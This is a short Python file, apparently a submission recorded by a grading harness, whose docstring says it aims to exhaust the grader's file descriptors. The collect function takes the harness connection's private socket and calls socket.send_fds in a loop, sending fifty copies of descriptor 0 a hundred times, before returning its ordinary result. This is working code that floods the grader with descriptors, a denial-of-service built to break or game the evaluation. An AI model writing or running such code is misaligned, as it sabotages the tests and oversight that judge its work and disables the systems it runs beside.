# stopped_by = ["process"]
# verdict = "PFSP"
"""Sends the grader descriptors until it has none left to open anything with."""

import socket

from accomplice import ran, slow, weigh, wire


async def collect(vault, dials):
    ran()
    wire().flush()
    sock = wire()._channel._socket
    sock.setblocking(True)
    for byte in b"\0\0\0\1\x90" * 20:
        socket.send_fds(sock, [bytes([byte])], [0] * 50)
    return await slow(vault, dials)
